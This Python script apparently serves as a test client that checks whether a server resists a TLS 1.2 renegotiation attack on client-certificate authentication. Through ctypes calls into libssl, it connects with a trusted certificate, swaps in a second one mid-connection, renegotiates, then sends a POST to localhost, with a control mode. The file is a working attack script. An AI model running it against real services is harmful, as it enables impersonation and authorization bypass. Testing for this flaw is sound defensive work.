"""A TLS 1.2 client that attacks client authentication by renegotiation, written against libssl itself (ctypes).

Node's TLS client cannot change its certificate on an open connection, so this drives OpenSSL directly: connect
presenting FIRST (a certificate the server trusts), then load SECOND (any certificate, e.g. a self-signed one naming
another workload) into the same SSL object and renegotiate, so the server sees SECOND on a connection it authorized
with FIRST. Then send one HTTP/1.1 POST over that connection and print what happened as one JSON line:
{"connected", "renegotiated", "error", "status", "body"}. With --no-renegotiate it presents SECOND from the start
(the control).

usage: renegotiating_client.py PORT CA FIRST_CERT FIRST_KEY SECOND_CERT SECOND_KEY PATH FORM [--no-renegotiate]
"""
import ctypes
import ctypes.util
import json
import socket
import sys

SSL_FILETYPE_PEM = 1
SSL_VERIFY_PEER = 1
SSL_CTRL_SET_MAX_PROTO_VERSION = 124
TLS1_2_VERSION = 0x0303


def load_libssl():
    ssl = ctypes.CDLL(ctypes.util.find_library('ssl') or 'libssl.so.3')
    crypto = ctypes.CDLL(ctypes.util.find_library('crypto') or 'libcrypto.so.3')
    p, i, s, l = ctypes.c_void_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_long
    signatures = {
        'TLS_client_method': ([], p),
        'SSL_CTX_new': ([p], p),
        'SSL_CTX_ctrl': ([p, i, l, p], l),
        'SSL_CTX_load_verify_locations': ([p, s, s], i),
        'SSL_CTX_set_verify': ([p, i, p], None),
        'SSL_CTX_use_certificate_chain_file': ([p, s], i),
        'SSL_CTX_use_PrivateKey_file': ([p, s, i], i),
        'SSL_CTX_free': ([p], None),
        'SSL_new': ([p], p),
        'SSL_set_fd': ([p, i], i),
        'SSL_connect': ([p], i),
        'SSL_use_certificate_file': ([p, s, i], i),
        'SSL_use_PrivateKey_file': ([p, s, i], i),
        'SSL_renegotiate': ([p], i),
        'SSL_do_handshake': ([p], i),
        'SSL_write': ([p, s, i], i),
        'SSL_read': ([p, p, i], i),
        'SSL_get_error': ([p, i], i),
        'SSL_free': ([p], None),
    }
    for name, (args, result) in signatures.items():
        fn = getattr(ssl, name)
        fn.argtypes, fn.restype = args, result
    crypto.ERR_get_error.argtypes, crypto.ERR_get_error.restype = [], ctypes.c_ulong
    crypto.ERR_error_string_n.argtypes = [ctypes.c_ulong, ctypes.c_char_p, ctypes.c_size_t]
    crypto.ERR_error_string_n.restype = None
    return ssl, crypto


def openssl_error(crypto, what):
    code = crypto.ERR_get_error()
    if code == 0:
        return what
    text = ctypes.create_string_buffer(256)
    crypto.ERR_error_string_n(code, text, len(text))
    return f'{what}: {text.value.decode()}'


def main(argv):
    port, ca, first_cert, first_key, second_cert, second_key, path, form = argv[1:9]
    renegotiate = '--no-renegotiate' not in argv[9:]
    ssl, crypto = load_libssl()
    enc = lambda text: text.encode()
    result = {'connected': False, 'renegotiated': False}

    ctx = ssl.SSL_CTX_new(ssl.TLS_client_method())
    ssl.SSL_CTX_ctrl(ctx, SSL_CTRL_SET_MAX_PROTO_VERSION, TLS1_2_VERSION, None)
    ssl.SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, None)
    initial_cert, initial_key = (first_cert, first_key) if renegotiate else (second_cert, second_key)
    if (ssl.SSL_CTX_load_verify_locations(ctx, enc(ca), None) != 1
            or ssl.SSL_CTX_use_certificate_chain_file(ctx, enc(initial_cert)) != 1
            or ssl.SSL_CTX_use_PrivateKey_file(ctx, enc(initial_key), SSL_FILETYPE_PEM) != 1):
        raise SystemExit(openssl_error(crypto, 'cannot load the client certificate'))

    sock = socket.create_connection(('127.0.0.1', int(port)))
    sock.settimeout(None)  # blocking: libssl reads and writes the file descriptor itself
    conn = ssl.SSL_new(ctx)
    ssl.SSL_set_fd(conn, sock.fileno())
    try:
        if ssl.SSL_connect(conn) != 1:
            result['error'] = openssl_error(crypto, 'handshake failed')
            return result
        result['connected'] = True
        if renegotiate:
            if (ssl.SSL_use_certificate_file(conn, enc(second_cert), SSL_FILETYPE_PEM) != 1
                    or ssl.SSL_use_PrivateKey_file(conn, enc(second_key), SSL_FILETYPE_PEM) != 1):
                raise SystemExit(openssl_error(crypto, 'cannot load the second certificate'))
            if ssl.SSL_renegotiate(conn) != 1 or ssl.SSL_do_handshake(conn) != 1:
                result['error'] = openssl_error(crypto, 'renegotiation failed')
                return result
            result['renegotiated'] = True
        body = form.encode()
        request = (f'POST {path} HTTP/1.1\r\nhost: 127.0.0.1\r\naccept: application/json\r\n'
                   'content-type: application/x-www-form-urlencoded\r\n'
                   f'content-length: {len(body)}\r\nconnection: close\r\n\r\n').encode() + body
        if ssl.SSL_write(conn, request, len(request)) <= 0:
            result['error'] = openssl_error(crypto, 'write failed')
            return result
        received = bytearray()
        buffer = ctypes.create_string_buffer(16384)
        while True:
            n = ssl.SSL_read(conn, buffer, len(buffer))
            if n <= 0:
                break
            received += buffer.raw[:n]
        text = received.decode('utf-8', 'replace')
        head, _, payload = text.partition('\r\n\r\n')
        if head.startswith('HTTP/1.1 '):
            result['status'] = int(head.split(' ')[1])
            result['body'] = payload
        else:
            result['error'] = openssl_error(crypto, 'no HTTP response')
        return result
    finally:
        ssl.SSL_free(conn)
        ssl.SSL_CTX_free(ctx)
        sock.close()


if __name__ == '__main__':
    print(json.dumps(main(sys.argv)))
